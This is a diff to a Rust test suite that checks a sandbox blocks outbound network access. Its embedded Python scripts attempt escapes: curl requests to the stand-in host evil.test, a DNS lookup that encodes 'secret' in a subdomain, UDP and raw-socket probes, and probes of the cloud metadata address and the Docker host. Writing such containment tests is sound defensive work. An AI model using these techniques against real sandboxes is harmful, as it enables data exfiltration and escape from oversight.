@@ -1,6 +1,6 @@
 //! No way out but the one that is given.
 
-use crate::lab::Lab;
+use crate::lab::{Attacker, Lab};
 use crate::outside::{Service, own_address};
 
 as_each_user! {
@@ -10,7 +10,14 @@ as_each_user! {
     row_23_the_machine_itself_is_not_reachable,
 }
 
-async fn row_03_and_04_a_direct_connection_has_no_route(user: u32) {
+in_containers! {
+    row_03_and_04_a_direct_connection_has_no_route,
+    row_10_no_name_is_resolved_and_no_datagram_leaves,
+    row_12_no_other_protocol_leads_out,
+    row_23_the_machine_itself_is_not_reachable,
+}
+
+async fn row_03_and_04_a_direct_connection_has_no_route(attacker: Attacker) {
     let service = Service::start();
     service.check_reachable_from_here();
     let (address, port) = (own_address(), service.port());
@@ -28,10 +35,10 @@ for option in ["", "--resolve evil.test:{port}:{address}", "--connect-to ::{addr
     print(f"curl {{option.split(' ')[0]}}: {{os.waitstatus_to_exitcode(os.system(f'{{curl}} {{option}} http://evil.test:{port}/')) != 0}}", flush=True)
 "#
     );
-    Lab::new(user).python(&script).await.check(&[
+    Lab::new(attacker).python(&script).await.check(&[
         ("the machine", "ENETUNREACH"),
         ("a public host", "ENETUNREACH"),
-        ("a public host by IPv6", "ENETUNREACH"),
+        ("a public host by IPv6", attacker.told("ENETUNREACH", "EADDRNOTAVAIL")),
         ("curl ", "True"),
         ("curl --resolve", "True"),
         ("curl --connect-to", "True"),
@@ -39,7 +46,7 @@ for option in ["", "--resolve evil.test:{port}:{address}", "--connect-to ::{addr
     service.check_untouched();
 }
 
-async fn row_10_no_name_is_resolved_and_no_datagram_leaves(user: u32) {
+async fn row_10_no_name_is_resolved_and_no_datagram_leaves(attacker: Attacker) {
     let service = Service::start();
     let (address, port) = (own_address(), service.datagram_port());
     let script = format!(
@@ -48,20 +55,21 @@ attempt("getaddrinfo", lambda: resolve("c2VjcmV0.evil.test"))
 attempt("8.8.8.8", lambda: connect("8.8.8.8", 53, socket.SOCK_DGRAM))
 attempt("a resolver here", lambda: connect("{address}", {port}, socket.SOCK_DGRAM))
 attempt("127.0.0.53", lambda: connect("127.0.0.53", 53))
-attempt("resolv.conf", lambda: len(open("/etc/resolv.conf").read()))
+servers = [line for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
+print(f"resolv.conf: {{[it for it in servers if it != 'nameserver 127.0.0.1' + chr(10)]}}")
 "#
     );
-    Lab::new(user).python(&script).await.check(&[
+    Lab::new(attacker).python(&script).await.check(&[
         ("getaddrinfo", "no address (temporary)"),
         ("8.8.8.8", "ENETUNREACH"),
         ("a resolver here", "ENETUNREACH"),
         ("127.0.0.53", "ECONNREFUSED"),
-        ("resolv.conf", "0"),
+        ("resolv.conf", "[]"),
     ]);
     service.check_untouched();
 }
 
-async fn row_12_no_other_protocol_leads_out(user: u32) {
+async fn row_12_no_other_protocol_leads_out(attacker: Attacker) {
     let script = r#"
 attempt("UDP 443", lambda: connect("192.0.2.1", 443, socket.SOCK_DGRAM))
 attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and None)
@@ -77,7 +85,7 @@ for what, protocol, kind in [("ICMP", socket.IPPROTO_ICMP, socket.SOCK_DGRAM), (
     except OSError as error:
         print(f"{what}: refused")
 "#;
-    Lab::new(user).python(script).await.check(&[
+    Lab::new(attacker).python(script).await.check(&[
         ("UDP 443", "ENETUNREACH"),
         ("raw", "EPERM"),
         ("raw IPv6", "EPERM"),
@@ -87,7 +95,7 @@ for what, protocol, kind in [("ICMP", socket.IPPROTO_ICMP, socket.SOCK_DGRAM), (
     ]);
 }
 
-async fn row_23_the_machine_itself_is_not_reachable(user: u32) {
+async fn row_23_the_machine_itself_is_not_reachable(attacker: Attacker) {
     let service = Service::start();
     let (address, port) = (own_address(), service.port());
     let script = format!(
@@ -101,9 +109,9 @@ for name in ["host.docker.internal", "metadata.google.internal"]:
 attempt("routes", lambda: len(open("/proc/net/route").read().splitlines()) - 1)
 "#
     );
-    Lab::new(user).python(&script).await.check(&[
+    Lab::new(attacker).python(&script).await.check(&[
         ("127.0.0.1", "ECONNREFUSED"),
-        ("..1", "ECONNREFUSED"),
+        ("..1", attacker.told("ECONNREFUSED", "EADDRNOTAVAIL")),
         ("..ffff.127.0.0.1", "ECONNREFUSED"),
         ("172.17.0.1", "ENETUNREACH"),
         ("169.254.169.254", "ENETUNREACH"),
